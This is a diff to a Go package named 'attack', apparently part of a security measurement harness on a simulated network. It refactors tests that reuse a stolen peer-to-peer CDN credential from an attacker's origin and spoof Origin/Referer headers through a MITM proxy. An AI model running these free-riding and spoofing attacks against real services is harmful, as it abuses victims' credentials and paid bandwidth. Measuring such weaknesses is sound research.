@@ -21,6 +21,7 @@ package attack
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"net/netip"
 	"time"
@@ -51,25 +52,42 @@ func freeRide(stolen pdnclient.Config) signal.JoinRequest {
 }
 
 // CrossDomain runs the cross-domain free-riding test from stolen.Host:
-// join stolen.SignalAddr with the credential stolen carries — an API
+// join stolen's first signaling server with the credential it carries — an API
 // key, a session token or a JWT — under the attacker's own origin, for
 // the attacker's own stream. Success means the credential constrains
 // neither. A config with no credential probes for unauthenticated
 // joins.
 func CrossDomain(ctx context.Context, stolen pdnclient.Config) (bool, error) {
-	return join(ctx, stolen.Host, stolen.SignalAddr, freeRide(stolen))
+	server, err := firstServer(stolen)
+	if err != nil {
+		return false, err
+	}
+	return join(ctx, stolen.Host, server, freeRide(stolen))
 }
 
 // DomainSpoof runs the domain-spoofing test: the CrossDomain join flows
 // through a MITM proxy on proxyHost (a host the attacker controls) that
 // rewrites Origin/Referer to the victim domain.
 func DomainSpoof(ctx context.Context, stolen pdnclient.Config, proxyHost *netsim.Host, victimDomain string) (bool, error) {
-	proxy := mitm.NewSignalProxy(proxyHost, stolen.SignalAddr, mitm.SpoofOrigin(victimDomain))
+	server, err := firstServer(stolen)
+	if err != nil {
+		return false, err
+	}
+	proxy := mitm.NewSignalProxy(proxyHost, server, mitm.SpoofOrigin(victimDomain))
 	if err := proxy.Serve(ctx, 8443); err != nil {
 		return false, err
 	}
 	defer proxy.Close()
 	return join(ctx, stolen.Host, netip.AddrPortFrom(proxyHost.VisibleAddr(), 8443), freeRide(stolen))
+}
+
+// firstServer is the signaling server a credential test joins: the first
+// of the seed list the stolen config shipped with.
+func firstServer(stolen pdnclient.Config) (netip.AddrPort, error) {
+	if len(stolen.SignalAddrs) == 0 {
+		return netip.AddrPort{}, errors.New("attack: config has no signaling address")
+	}
+	return stolen.SignalAddrs[0], nil
 }
 
 // join attempts a signaling join and reports whether the server
